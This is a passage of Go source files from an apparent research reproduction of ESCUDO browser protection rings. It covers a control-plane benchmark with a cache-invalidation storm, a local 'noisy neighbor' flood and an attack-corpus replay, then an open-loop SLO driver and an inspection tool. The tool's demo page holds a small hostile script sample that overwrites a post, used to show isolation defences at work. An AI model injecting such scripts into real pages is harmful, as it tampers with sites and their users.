		DefaultQueueDepth: 8,
		Origins:           originCfgs,
	}, "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer cleanup()

	// The subscription: generation published through the watcher, the
	// shared decision cache invalidated on every observed flip. The
	// cache lands in cacheRef after the pool exists — the watcher only
	// needs it once a flip arrives, long after Start.
	var cacheRef atomic.Pointer[core.DecisionCache]
	var flipWaitGen atomic.Uint64
	flipObserved := make(chan struct{})
	var flipOnce sync.Once
	w := ctlplane.NewWatcher(ctlplane.WatcherConfig{
		Addr:         gw.Addr(),
		HoldFor:      5 * time.Second,
		PollInterval: 10 * time.Millisecond,
		OnFlip: func(gen uint64) {
			if c := cacheRef.Load(); c != nil {
				c.Invalidate()
			}
			if want := flipWaitGen.Load(); want != 0 && gen >= want {
				flipOnce.Do(func() { close(flipObserved) })
			}
		},
	})
	if err := w.Start(context.Background()); err != nil {
		return nil, fmt.Errorf("control watcher: %w", err)
	}
	defer w.Stop()

	pool, err := engine.NewPool(engine.Config{
		Sessions:  cfg.sessions,
		Transport: ct,
		Options:   browser.Options{Mode: cfg.mode, PolicyGen: w.Generation},
		Uncached:  cfg.uncached,
	})
	if err != nil {
		return nil, err
	}
	defer pool.Close()
	cacheRef.Store(pool.Cache())

	section := &controlJSON{TenantsMounted: cfg.tenants}

	// Warm round: session cookies plus a fully populated decision
	// cache, so the storm invalidates (and refills) a realistic
	// working set rather than a cold one.
	paths := scenarios.Paths()
	pool.Each(func(s *engine.Session) error {
		for _, p := range paths {
			if _, err := s.Browser.Navigate(hot.URL(p)); err != nil {
				return err
			}
		}
		return nil
	})
	if st := pool.Stats(); len(st.Errors) > 0 {
		return nil, fmt.Errorf("control warmup: %w", st.Errors[0])
	}

	storm := &stormJSON{}
	// The refill target is the hot origin's working set as the warm
	// round populated it — the entries the post-flip load will put
	// back. Snapshot it before the attack replay, whose environments
	// park extra entries the storm load never touches again.
	if c := pool.Cache(); c != nil {
		storm.CacheEntriesBefore = c.Stats().Entries
	}
	if cfg.attacksOn {
		if storm.AttacksPreFlip, err = replayCorpus(cfg.mode, pool.Cache()); err != nil {
			return nil, err
		}
	}

	// The invalidation storm: figure-4 rounds stream through the pool
	// while one policy push lands. The load loops until the flip has
	// been observed and the cache has refilled (with the configured
	// round count as a floor), so both sides of the flip carry real
	// page loads.
	type sample struct {
		at     time.Duration
		served uint64
	}
	var samples []sample
	var phaseStart, pushStart, ackAt, observedAt, refillAt time.Time
	var flipErr error
	stormPhase := runHTTPPhase(pool, gw, "control-storm", func() {
		phaseStart = time.Now()
		samplerStop := make(chan struct{})
		var samplerDone sync.WaitGroup
		samplerDone.Add(1)
		go func() {
			defer samplerDone.Done()
			tick := time.NewTicker(stormWindow)
			defer tick.Stop()
			for {
				select {
				case <-tick.C:
					samples = append(samples, sample{time.Since(phaseStart), gw.Stats().Served})
				case <-samplerStop:
					return
				}
			}
		}()

		flipDone := make(chan struct{})
		go func() {
			defer close(flipDone)
			// Establish a pre-flip baseline first.
			time.Sleep(300 * time.Millisecond)
			doc := scenarios.Policy(hot)
			data, err := json.Marshal(doc)
			if err != nil {
				flipErr = err
				return
			}
			pushStart = time.Now()
			res, err := ctlplane.PostReload(context.Background(), nil, "http", gw.Addr(), data)
			ackAt = time.Now()
			if err != nil {
				flipErr = fmt.Errorf("storm push: %w", err)
				return
			}
			storm.FlipGeneration = res.Generation
			flipWaitGen.Store(res.Generation)
			if w.Generation() >= res.Generation {
				flipOnce.Do(func() { close(flipObserved) })
			}
			select {
			case <-flipObserved:
				observedAt = time.Now()
			case <-time.After(10 * time.Second):
				flipErr = fmt.Errorf("storm: generation %d never observed by the watcher", res.Generation)
				return
			}
			if c := pool.Cache(); c != nil {
				deadline := time.Now().Add(10 * time.Second)
				for c.Stats().Entries < storm.CacheEntriesBefore && time.Now().Before(deadline) {
					time.Sleep(2 * time.Millisecond)
				}
				refillAt = time.Now()
			}
		}()

		// The load itself: one full figure-4 round per lap across the
		// pool, looping until the flip work is finished.
		rounds := 0
		for {
			for _, path := range paths {
				p := path
				pool.Submit(func(s *engine.Session) error {
					_, err := s.Browser.Navigate(hot.URL(p))
					return err
				})
			}
			pool.Wait()
			rounds++
			if rounds >= cfg.iters {
				select {
				case <-flipDone:
					close(samplerStop)
					samplerDone.Wait()
					return
				default:
				}
			}
			if rounds > 5000 { // runaway guard; the flip deadline fires first
				<-flipDone
				close(samplerStop)
				samplerDone.Wait()
				return
			}
		}
	})
	if flipErr != nil {
		return nil, flipErr
	}
	if stormPhase.Errors > 0 {
		return nil, fmt.Errorf("control-storm had %d task errors", stormPhase.Errors)
	}

	storm.PushAckMs = ms(ackAt.Sub(pushStart))
	storm.PropagationMs = ms(observedAt.Sub(pushStart))
	if !refillAt.IsZero() {
		storm.CacheRefillMs = ms(refillAt.Sub(observedAt))
	}

	// Throughput windows: gateway served-count deltas per sampler
	// tick, split at the push.
	var pre, post []float64
	pushRel := pushStart.Sub(phaseStart)
	for i := 1; i < len(samples); i++ {
		rate := float64(samples[i].served-samples[i-1].served) / stormWindow.Seconds()
		if samples[i].at < pushRel {
			pre = append(pre, rate)
		} else if samples[i].at < pushRel+time.Second {
			post = append(post, rate)
		}
	}
	if len(pre) > 0 {
		storm.BaselineReqsPerSec = median(pre)
	}
	if len(post) > 0 {
		min := post[0]
		for _, r := range post[1:] {
			if r < min {
				min = r
			}
		}
		storm.MinPostFlipReqsPerSec = min
		if storm.BaselineReqsPerSec > 0 {
			storm.DipPercent = 100 * (1 - min/storm.BaselineReqsPerSec)
			below := 0
			for _, r := range post {
				if r < 0.9*storm.BaselineReqsPerSec {
					below++
				} else if below > 0 {
					break
				}
			}
			storm.DipDurationMs = float64(below) * ms(stormWindow)
		}
	}

	if cfg.attacksOn {
		if storm.AttacksPostFlip, err = replayCorpus(cfg.mode, pool.Cache()); err != nil {
			return nil, err
		}
	}
	section.Storm = storm
	section.Phases = append(section.Phases, stormPhase)

	// The invariant gate: the storm phase's pages, audited per page.
	st := pool.Stats()
	section.GenerationsMixed = st.GenMix.Mixed
	section.PagesAudited = st.GenMix.Pages
	section.GenerationsSeen = st.GenMix.Generations
	if st.GenMix.Mixed != 0 {
		return nil, fmt.Errorf("control: %d pages observed more than one policy generation", st.GenMix.Mixed)
	}
	if st.GenMix.Generations < 2 {
		return nil, fmt.Errorf("control: storm pages saw %d generation(s); the flip did not land mid-load", st.GenMix.Generations)
	}

	// Noisy neighbor: flood tenant[1] into queue overflow through its
	// own transport while probing tenant[0] through another. The
	// per-origin bounded queues are the isolation mechanism under
	// test: the flood saturates its origin's single worker and
	// eight-deep queue, overflow answers 503 immediately, and the
	// victim's worker never sees any of it.
	victim, noisy := tenants[0], tenants[1]
	victimCT := httpd.NewClientTransport(gw.Addr())
	defer victimCT.Close()
	noisyCT := httpd.NewClientTransport(gw.Addr())
	defer noisyCT.Close()

	const probeN = 300
	warmPath := paths[0]
	// One warm request so the victim's probe measures steady state.
	if _, err := probeP99(victimCT, victim, warmPath, 8); err != nil {
		return nil, err
	}
	aloneP99, err := probeP99(victimCT, victim, warmPath, probeN)
	if err != nil {
		return nil, err
	}

	before := gw.Stats()
	floodStop := make(chan struct{})
	var floodReqs atomic.Uint64
	var floodWG sync.WaitGroup
	// Enough concurrency to keep the noisy tenant's single worker busy
	// and its eight-deep queue overflowing — the 503 shed path is part
	// of what isolates the victim.
	for i := 0; i < 32; i++ {
		floodWG.Add(1)
		go func() {
			defer floodWG.Done()
			for {
				select {
				case <-floodStop:
					return
				default:
				}
				// 503s are the expected overflow answer; transport errors
				// just mean the flood outpaced the listener — keep going.
				if _, err := noisyCT.RoundTrip(web.NewRequest("GET", noisy.URL(warmPath))); err == nil {
					floodReqs.Add(1)
				}
			}
		}()
	}
	noisyP99, err := probeP99(victimCT, victim, warmPath, probeN)
	close(floodStop)
	floodWG.Wait()
	if err != nil {
		return nil, err
	}
	floodDelta := gw.Stats().Sub(before)

	noisySec := &noisyJSON{
		VictimP99AloneMs: ms(aloneP99),
		VictimP99NoisyMs: ms(noisyP99),
		FloodRequests:    floodReqs.Load(),
		Flood503:         floodDelta.Rejected503,
	}
	if aloneP99 > 0 {
		noisySec.P99Ratio = float64(noisyP99) / float64(aloneP99)
	}
	section.Noisy = noisySec

	// Fleet cross-check: /policyz serves the whole tenant set plus the
	// hot origin, at a generation covering every mount plus the flip.
	doc, err := ctlplane.FetchPolicyz(context.Background(), nil, "http", gw.Addr())
	if err != nil {
		return nil, err
	}
	section.Generation = doc.Generation
	section.PolicyzOrigins = len(doc.Policies)
	if len(doc.Policies) != cfg.tenants+1 {
		return nil, fmt.Errorf("control: /policyz served %d documents, mounted %d", len(doc.Policies), cfg.tenants+1)
	}
	if doc.Generation != storm.FlipGeneration {
		return nil, fmt.Errorf("control: fleet generation %d, want %d (every mount plus the flip)",
			doc.Generation, storm.FlipGeneration)
	}
	if w.Generation() != doc.Generation {
		return nil, fmt.Errorf("control: watcher at generation %d, gateway at %d", w.Generation(), doc.Generation)
	}
	return section, nil
}

// printControl renders the control section on stdout next to the
// other sections' summaries.
func printControl(c *controlJSON) error {
	fmt.Printf("\nControl plane: %d tenants mounted, fleet generation %d (%d documents on /policyz)\n",
		c.TenantsMounted, c.Generation, c.PolicyzOrigins)
	if s := c.Storm; s != nil {
		fmt.Printf("  storm: flip to gen %d — push ack %.1f ms, propagation %.1f ms, cache refill %.1f ms (%d entries)\n",
			s.FlipGeneration, s.PushAckMs, s.PropagationMs, s.CacheRefillMs, s.CacheEntriesBefore)
		fmt.Printf("  storm: reqs/s baseline %.0f, post-flip min %.0f (dip %.1f%% for %.0f ms)\n",
			s.BaselineReqsPerSec, s.MinPostFlipReqsPerSec, s.DipPercent, s.DipDurationMs)
		if s.AttacksPreFlip != nil && s.AttacksPostFlip != nil {
			fmt.Printf("  storm: attacks %d/%d neutralized pre-flip, %d/%d post-flip\n",
				s.AttacksPreFlip.Neutralized, s.AttacksPreFlip.Total,
				s.AttacksPostFlip.Neutralized, s.AttacksPostFlip.Total)
		}
	}
	fmt.Printf("  generations: %d pages audited, %d generations seen, %d mixed\n",
		c.PagesAudited, c.GenerationsSeen, c.GenerationsMixed)
	if nn := c.Noisy; nn != nil {
		fmt.Printf("  noisy neighbor: victim p99 %.3f ms alone vs %.3f ms flooded (ratio %.2f; flood %d reqs, %d × 503)\n",
			nn.VictimP99AloneMs, nn.VictimP99NoisyMs, nn.P99Ratio, nn.FloodRequests, nn.Flood503)
	}
	for _, ph := range c.Phases {
		if ph.Errors > 0 {
			return fmt.Errorf("phase %s had %d task errors", ph.Name, ph.Errors)
		}
	}
	if c.GenerationsMixed != 0 {
		return fmt.Errorf("control section recorded %d mixed-generation pages", c.GenerationsMixed)
	}
	return nil
}
