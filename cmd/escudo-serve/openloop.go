// Open-loop SLO mode: Poisson arrivals at a configured rate against
// the gateway, with session login/logout churn riding along. The
// closed-loop BENCH phases wait for each response before sending the
// next request, so an overloaded system politely throttles its own
// load generator and the measured tail flatters it (coordinated
// omission). Here the schedule is absolute — arrival times are drawn
// up front from a seeded exponential process and submission never
// waits for completions — so queueing delay lands in the measurements
// and overload shows up as drops, exactly as an external client fleet
// would see it.
package main

import (
	"fmt"
	"math/rand"
	"strconv"
	"strings"
	"time"

	"repro/internal/browser"
	"repro/internal/engine"
	"repro/internal/httpd"
	"repro/internal/metrics"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/slo"
)

// openLoopSpec is the parsed -openloop flag:
// rate=R,duration=D[,churn=C][,p99=MS][,seed=N].
type openLoopSpec struct {
	rate     float64       // target arrivals/sec
	duration time.Duration // how long to offer load
	churn    float64       // login/logout events/sec woven into the arrivals
	p99Ms    float64       // declared p99 budget in ms (0 = none)
	seed     int64         // arrival-schedule seed
}

// parseOpenLoop parses the -openloop spec. rate and duration are
// required; churn, p99, and seed are optional.
func parseOpenLoop(s string) (openLoopSpec, error) {
	spec := openLoopSpec{seed: 1}
	for _, kv := range strings.Split(s, ",") {
		k, v, ok := strings.Cut(strings.TrimSpace(kv), "=")
		if !ok {
			return spec, fmt.Errorf("-openloop: %q is not key=value", kv)
		}
		var err error
		switch k {
		case "rate":
			spec.rate, err = strconv.ParseFloat(v, 64)
		case "duration":
			spec.duration, err = time.ParseDuration(v)
		case "churn":
			spec.churn, err = strconv.ParseFloat(v, 64)
		case "p99":
			spec.p99Ms, err = strconv.ParseFloat(v, 64)
		case "seed":
			spec.seed, err = strconv.ParseInt(v, 10, 64)
		default:
			return spec, fmt.Errorf("-openloop: unknown key %q", k)
		}
		if err != nil {
			return spec, fmt.Errorf("-openloop: %s: %w", k, err)
		}
	}
	if spec.rate <= 0 {
		return spec, fmt.Errorf("-openloop: rate must be > 0")
	}
	if spec.duration <= 0 {
		return spec, fmt.Errorf("-openloop: duration must be > 0")
	}
	if spec.churn < 0 || spec.churn > spec.rate {
		return spec, fmt.Errorf("-openloop: churn must be in [0, rate]")
	}
	return spec, nil
}

// openLoopPhase is the slow-ring phase label the open-loop tasks
// record exemplars under.
const openLoopPhase = "openloop"

// trimInterval is the soak-retention cadence: how often the driver
// drops the append-only accumulators (session audit logs, and
// whatever the caller's trim hook owns). Long enough that resets are
// off the per-arrival path, short enough that the retained backlog
// between trims stays a few megabytes — a sawtooth the leak watch's
// least-squares fit reads as flat.
const trimInterval = 2 * time.Second

// leakWarmup is how long the driver offers load before the leak
// watch starts sampling: the first seconds of a storm pay one-time
// steady-state costs (the 65536-entry decision ring filling, h2
// stream buffers, histogram bucket slices) that a fit over the whole
// window would read as linear growth. The leak question is whether
// *steady-state* load accretes memory, so the watch opens after the
// warm fraction — capped so short diagnostic runs still leave most
// of their window to the fit (which abstains below 5s anyway).
func leakWarmup(d time.Duration) time.Duration {
	w := d / 4
	if w > 5*time.Second {
		w = 5 * time.Second
	}
	return w
}

// driveOpenLoop offers spec.duration of Poisson load to an
// already-warm pool and packages the slo section. The pool must be
// configured with the given StageSet and SlowRing (that is how
// per-stage spans and exemplars reach the result); account names the
// phpBB login a session uses for churn.
//
// trim, when non-nil, is called once per trimInterval alongside the
// driver's own retention work: the session audit logs accrue one
// record per decision — fine for the bounded closed-loop phases,
// fatal for a soak (the leak watch would correctly convict the
// driver itself) — so they are dropped on the same cadence. The
// decision ring and the slow ring are bounded and keep serving
// /tracez and /slowz joins across trims.
func driveOpenLoop(pool *engine.Pool, spec openLoopSpec, bench, forum origin.Origin,
	stages *obs.StageSet, slow *obs.SlowRing, account func(sessionID int) string,
	trim func()) (*slo.Result, error) {

	paths := scenarios.Paths()

	// Churn bookkeeping: per-session login state is only ever touched
	// by that session's own goroutine, so plain bools suffice; the
	// Churn tracker owns the cross-session tally.
	var churn slo.Churn
	loggedIn := make([]bool, len(pool.Sessions()))
	churnTask := func(s *engine.Session) error {
		if loggedIn[s.ID] {
			if _, err := s.Browser.Navigate(forum.URL("/logout")); err != nil {
				return err
			}
			loggedIn[s.ID] = false
			churn.Logout()
			return nil
		}
		p, err := s.Browser.Navigate(forum.URL("/"))
		if err != nil {
			return err
		}
		form := p.Doc.ByID("loginform")
		if form == nil {
			return fmt.Errorf("openloop churn: no loginform")
		}
		if _, err := p.SubmitForm(form, map[string][]string{
			"username": {account(s.ID)}, "password": {"pw"},
		}); err != nil {
			return err
		}
		loggedIn[s.ID] = true
		churn.Login()
		return nil
	}

	// The leak watch is scoped to the open-loop window: a dedicated
	// sampler (no registry — the run's gauges stay owned by the main
	// sampler) whose drift verdict judges only this phase's heap. It
	// starts after leakWarmup so one-time steady-state costs stay out
	// of the fitted series (see leakWarmup).
	smp := obs.NewSampler(nil, 200*time.Millisecond)
	smpStarted := false

	// Per-stage histograms are shared with the rest of the run, so the
	// section reports the delta across the open-loop window.
	var stageBefore [obs.NumStages]metrics.Histogram
	for st := obs.Stage(0); st < obs.NumStages; st++ {
		if h := stages.Hist(st); h != nil {
			stageBefore[st] = h.Snapshot()
		}
	}

	pool.SetPhase(openLoopPhase)
	pool.ResetStats()

	arr := slo.NewArrivals(spec.rate, spec.seed)
	coin := rand.New(rand.NewSource(spec.seed ^ 0x5deece66d))
	churnP := 0.0
	if spec.churn > 0 {
		churnP = spec.churn / spec.rate
	}

	res := &slo.Result{
		TargetRate:  spec.rate,
		Seed:        spec.seed,
		P99BudgetMs: spec.p99Ms,
	}
	start := time.Now()
	deadline := start.Add(spec.duration)
	warmOver := start.Add(leakWarmup(spec.duration))
	next := start
	nextTrim := start.Add(trimInterval)
	pathIdx := 0
	for {
		next = next.Add(arr.Next())
		if next.After(deadline) {
			break
		}
		if d := time.Until(next); d > 0 {
			time.Sleep(d)
		}
		if !smpStarted && time.Now().After(warmOver) {
			smp.Start()
			smp.Mark()
			smpStarted = true
		}
		if now := time.Now(); now.After(nextTrim) {
			for _, s := range pool.Sessions() {
				s.Browser.Audit.Reset()
			}
			if trim != nil {
				trim()
			}
			nextTrim = now.Add(trimInterval)
		}
		res.Arrivals++
		var task engine.Task
		if churnP > 0 && coin.Float64() < churnP {
			task = churnTask
		} else {
			p := paths[pathIdx%len(paths)]
			pathIdx++
			task = func(s *engine.Session) error {
				_, err := s.Browser.Navigate(bench.URL(p))
				return err
			}
		}
		ok, err := pool.TrySubmit(task)
		if err != nil {
			return nil, err
		}
		if !ok {
			// Queue full: the open-loop equivalent of a connection
			// refused under overload — counted, never retried.
			res.Dropped++
		}
	}
	if !smpStarted {
		// Arrivals ran dry before the warmup elapsed (tiny rate or
		// duration): open the watch now so Stop below is well-defined;
		// the fit abstains on windows this short.
		smp.Start()
		smp.Mark()
	}
	pool.Wait()
	res.DurationSec = time.Since(start).Seconds()

	st := pool.Stats()
	res.Completed = int64(st.Tasks)
	res.Errors = int64(len(st.Errors))
	res.Total = st.Hist
	res.Logins, res.Logouts, res.LiveSessions = churn.Counts()

	res.Stages = map[string]slo.StageStats{}
	for stg := obs.Stage(0); stg < obs.NumStages; stg++ {
		h := stages.Hist(stg)
		if h == nil {
			continue
		}
		delta := h.Snapshot().Sub(stageBefore[stg])
		if delta.Total() == 0 {
			continue
		}
		res.Stages[stg.String()] = slo.StageStats{Hist: delta}
	}

	res.Exemplars = slow.Snapshot(openLoopPhase)

	samp := smp.Stop()
	res.Leak = samp.Drift

	res.Finalize()
	return res, nil
}

// openLoopSectionConfig parameterizes the single-process slo section:
// its own gateway and pool over the shared substrate, so the open-loop
// storm cannot perturb the equivalence-checked phases.
type openLoopSectionConfig struct {
	spec           openLoopSpec
	sessions       int
	workers, queue int
	httpCfg        httpSectionConfig // substrate + obs plane reused verbatim
	stages         *obs.StageSet
	slow           *obs.SlowRing
}

// runOpenLoopSection mounts the substrate on a loopback gateway,
// warms a dedicated pool, and runs the open-loop driver against it.
func runOpenLoopSection(cfg openLoopSectionConfig) (*slo.Result, error) {
	h := cfg.httpCfg
	originCfgs := map[string]httpd.OriginConfig{}
	for o, doc := range h.policies {
		doc := doc
		originCfgs[o] = httpd.OriginConfig{Policy: &doc}
	}
	gwCfg := httpd.Config{
		DefaultWorkers:    cfg.workers,
		DefaultQueueDepth: cfg.queue,
		Origins:           originCfgs,
		Obs:               h.reg,
		Ring:              h.ring,
		Stages:            cfg.stages,
		Slow:              cfg.slow,
	}
	gw, ct, cleanup, err := httpd.WrapNetwork(h.net, gwCfg, "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer cleanup()
	_ = gw

	pool, err := engine.NewPool(engine.Config{
		Sessions:  cfg.sessions,
		Transport: ct,
		Options:   browser.Options{Mode: h.mode, DecisionRing: h.ring},
		Cache:     h.cache,
		Uncached:  h.uncached,
		Stages:    cfg.stages,
		Slow:      cfg.slow,
	})
	if err != nil {
		return nil, err
	}
	defer pool.Close()

	// Unmeasured warm round: session cookies exist, connections are
	// established, so the measured window starts from a steady state.
	paths := scenarios.Paths()
	pool.Each(func(s *engine.Session) error {
		_, err := s.Browser.Navigate(h.bench.URL(paths[0]))
		return err
	})
	if st := pool.Stats(); len(st.Errors) > 0 {
		return nil, fmt.Errorf("openloop warmup: %w", st.Errors[0])
	}

	// The in-memory substrate's request log is the other append-only
	// accumulator in this process; drop it on the same cadence. (In
	// cluster mode the substrate lives in the server process and the
	// worker's verdict doesn't sample it.)
	return driveOpenLoop(pool, cfg.spec, h.bench, h.forum, cfg.stages, cfg.slow,
		func(id int) string { return fmt.Sprintf("user%d", id) },
		func() { h.net.ResetLog() })
}

// printSLO renders the slo section to stdout; it returns an error
// when the section carries task errors so the driver exits nonzero.
func printSLO(s *slo.Result) error {
	fmt.Printf("\nOpen-loop SLO — target %.0f req/s for %.1fs (seed %d): offered %.1f, achieved %.1f, %d dropped, %d errors (%.2f%% budget spent)\n",
		s.TargetRate, s.DurationSec, s.Seed, s.OfferedRate, s.AchievedRate,
		s.Dropped, s.Errors, 100*s.ErrorFraction)
	fmt.Printf("Churn: %d logins, %d logouts, %d live (invariant logins == logouts + live: %v)\n",
		s.Logins, s.Logouts, s.LiveSessions, s.Logins == s.Logouts+s.LiveSessions)
	t := metrics.NewTable("Stage", "Count", "p50 (ms)", "p99 (ms)", "p99.9 (ms)")
	t.AddRow("total", fmt.Sprintf("%d", s.Total.Total()),
		fmt.Sprintf("%.3f", s.P50Ms), fmt.Sprintf("%.3f", s.P99Ms), fmt.Sprintf("%.3f", s.P999Ms))
	for _, name := range obs.StageNames() {
		st, ok := s.Stages[name]
		if !ok {
			continue
		}
		t.AddRow(name, fmt.Sprintf("%d", st.Count),
			fmt.Sprintf("%.3f", st.P50Ms), fmt.Sprintf("%.3f", st.P99Ms), fmt.Sprintf("%.3f", st.P999Ms))
	}
	fmt.Print(t.String())
	if s.P99BudgetMs > 0 {
		fmt.Printf("p99 budget %.1f ms: within=%v\n", s.P99BudgetMs, s.P99WithinBudget)
	}
	if s.Leak != nil {
		fmt.Printf("Leak watch: slope %.0f B/s over %.1fs (%d points), growth %.1f%% of mean heap — suspected=%v\n",
			s.Leak.SlopeBytesPerSec, s.Leak.WindowSec, s.Leak.Points,
			100*s.Leak.GrowthFraction, s.Leak.Suspected)
	} else {
		fmt.Println("Leak watch: window too short for a verdict")
	}
	for i, ex := range s.Exemplars {
		if i >= 3 {
			fmt.Printf("  … %d more exemplars on /slowz\n", len(s.Exemplars)-3)
			break
		}
		fmt.Printf("  exemplar %s: %.3f ms total (phase %s)\n",
			ex.TraceID, float64(ex.TotalNs)/1e6, ex.Phase)
	}
	if s.Errors > 0 {
		return fmt.Errorf("open-loop run had %d task errors", s.Errors)
	}
	return nil
}
