// Command escudo-inspect loads an HTML document, labels it under
// ESCUDO, and dumps the resulting security contexts: the ring and ACL
// of every element, plus an access-query mode that answers "may a
// principal in ring R perform OP on element #ID?" — the adoption and
// debugging tool an application developer configuring rings would use.
//
// Usage:
//
//	escudo-inspect [-maxring N] [-query ring:op:id] [file]
//
// With no file, a built-in demonstration page (the paper's Figure 3
// blog shape) is inspected. -query may repeat.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/layout"
	"repro/internal/origin"
)

// demoPage is the paper's Figure 3 blog shape.
const demoPage = `<html><head><title>blog</title></head><body>
<div ring=2 r=1 w=0 x=2 nonce=3847 id=post>
  <p>The original blog post.</p>
  <script id=post-script>render();</script>
</div nonce=3847>
<div ring=3 r=2 w=0 x=2 nonce=9121 id=comment>
  <p>User comment with a hostile script:</p>
  <script id=evil>document.getElementById("post").innerHTML = "pwned";</script>
</div nonce=9121>
</body></html>`

type queryList []string

func (q *queryList) String() string     { return strings.Join(*q, ",") }
func (q *queryList) Set(s string) error { *q = append(*q, s); return nil }

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-inspect:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("escudo-inspect", flag.ContinueOnError)
	maxRing := fs.Int("maxring", 3, "page ring count N")
	var queries queryList
	fs.Var(&queries, "query", "access query ring:op:id (repeatable), e.g. 3:write:post")
	showRender := fs.Bool("render", false, "also print the text rendering")
	if err := fs.Parse(args); err != nil {
		return err
	}

	markup := demoPage
	if fs.NArg() > 0 {
		data, err := os.ReadFile(fs.Arg(0))
		if err != nil {
			return err
		}
		markup = string(data)
	}

	pageOrigin := origin.MustParse("http://inspected.example")
	doc := dom.NewDocument(pageOrigin, markup, html.Options{
		Escudo:  true,
		MaxRing: core.Ring(*maxRing),
		// Top-level unlabeled content takes the fail-safe default.
		BaseRing: core.Ring(*maxRing),
		BaseACL:  core.ACL{},
	})

	fmt.Printf("Labeled DOM (N=%d, origin %s):\n\n", *maxRing, pageOrigin)
	dumpTree(doc.Root, 0)

	if bad := doc.CheckScopingInvariant(); bad != nil {
		fmt.Printf("\nWARNING: scoping invariant violated at %s\n", describe(bad))
	} else {
		fmt.Printf("\nScoping invariant: OK\n")
	}

	if len(queries) > 0 {
		fmt.Println("\nAccess queries:")
		erm := &core.ERM{}
		for _, q := range queries {
			if err := answerQuery(erm, doc, pageOrigin, q); err != nil {
				return err
			}
		}
	}

	if *showRender {
		fmt.Println("\nRendering:")
		fmt.Println(layout.RenderText(layout.Layout(doc.Root, 72), 72))
	}
	return nil
}

// dumpTree prints the labeled tree.
func dumpTree(n *html.Node, depth int) {
	indent := strings.Repeat("  ", depth)
	switch n.Type {
	case html.ElementNode:
		ac := ""
		if n.IsACTag {
			ac = "  [AC tag]"
		}
		fmt.Printf("%s<%s>  ring=%d  acl{%s}%s\n", indent, describe(n), n.Ring, n.ACL, ac)
	case html.TextNode:
		text := strings.TrimSpace(n.Data)
		if text == "" {
			return
		}
		if len(text) > 40 {
			text = text[:40] + "…"
		}
		fmt.Printf("%s%q  ring=%d\n", indent, text, n.Ring)
	case html.DocumentNode:
		fmt.Printf("%s#document\n", indent)
	default:
		return
	}
	for _, k := range n.Kids {
		dumpTree(k, depth+1)
	}
}

func describe(n *html.Node) string {
	if id, ok := n.Attr("id"); ok {
		return n.Tag + "#" + id
	}
	return n.Tag
}

// answerQuery evaluates one ring:op:id query.
func answerQuery(erm *core.ERM, doc *dom.Document, o origin.Origin, q string) error {
	parts := strings.Split(q, ":")
	if len(parts) != 3 {
		return fmt.Errorf("bad query %q (want ring:op:id)", q)
	}
	ring, err := core.ParseRing(parts[0], core.MaxSupportedRing)
	if err != nil {
		return err
	}
	var op core.Op
	switch parts[1] {
	case "read":
		op = core.OpRead
	case "write":
		op = core.OpWrite
	case "use":
		op = core.OpUse
	default:
		return fmt.Errorf("bad op %q", parts[1])
	}
	node := doc.ByID(parts[2])
	if node == nil {
		return fmt.Errorf("no element with id %q", parts[2])
	}
	d := erm.Authorize(core.Principal(o, ring, fmt.Sprintf("ring-%d principal", ring)), op, doc.NodeContext(node))
	fmt.Printf("  %s\n", d)
	return nil
}
