// Command escudo-inspect loads an HTML document, labels it under
// ESCUDO, and dumps the resulting security contexts: the ring and ACL
// of every element, plus an access-query mode that answers "may a
// principal in ring R perform OP on element #ID?" — the adoption and
// debugging tool an application developer configuring rings would use.
//
// Usage:
//
//	escudo-inspect [-maxring N] [-policy policy.json]
//	               [-query ring:op:id[@guest-origin]] [file]
//	escudo-inspect -tracez host:port [-trace ID]
//	escudo-inspect -slowz host:port [-phase NAME]
//	escudo-inspect -policyz host:port [-watch]
//
// With no file, a built-in demonstration page (the paper's Figure 3
// blog shape) is inspected. -query may repeat.
//
// -policy loads a unified escudo.Policy document (the JSON a gateway
// serves per-origin at /.well-known/escudo-policy): the document is
// validated, its summary printed, its ring count used for labeling,
// and its §7 delegations mounted into the query monitor — a query
// suffixed @guest-origin then asks as a principal of that origin, so
// delegation floors can be inspected before deployment.
//
// -tracez switches to live-gateway mode: it fetches the decision-trace
// ring from a running gateway's admin /tracez endpoint and
// pretty-prints the audited decisions grouped by trace, so a developer
// can follow one page load's provenance — trace ID, span order,
// ⟨P ⊳ O⟩ triple, and verdict — without attaching a debugger. -trace
// narrows the fetch to a single trace ID.
//
// -slowz fetches the tail-exemplar ring from a running gateway's admin
// /slowz endpoint: the slowest retained requests per phase, each with
// its trace ID and per-stage latency breakdown — so a p99 on a
// dashboard always resolves to at least one concrete request. -phase
// narrows the fetch to one phase label. Trace IDs printed here join
// against -tracez, which shows the same request's authorization
// decisions.
//
// -policyz is the control-plane view: it fetches a running gateway's
// admin /policyz document and prints the fleet generation plus every
// mounted origin's policy version (rev, ring count, delegations).
// With -watch it then long-polls the endpoint and streams each
// generation flip as it lands — the operator's tail -f on a fleet-wide
// version push.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"sort"
	"strings"
	"syscall"
	"time"

	escudo "repro"
	"repro/internal/core"
	"repro/internal/ctlplane"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/layout"
	"repro/internal/obs"
	"repro/internal/origin"
)

// demoPage is the paper's Figure 3 blog shape.
const demoPage = `<html><head><title>blog</title></head><body>
<div ring=2 r=1 w=0 x=2 nonce=3847 id=post>
  <p>The original blog post.</p>
  <script id=post-script>render();</script>
</div nonce=3847>
<div ring=3 r=2 w=0 x=2 nonce=9121 id=comment>
  <p>User comment with a hostile script:</p>
  <script id=evil>document.getElementById("post").innerHTML = "pwned";</script>
</div nonce=9121>
</body></html>`

type queryList []string

func (q *queryList) String() string     { return strings.Join(*q, ",") }
func (q *queryList) Set(s string) error { *q = append(*q, s); return nil }

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-inspect:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("escudo-inspect", flag.ContinueOnError)
	maxRing := fs.Int("maxring", 3, "page ring count N (overridden by -policy)")
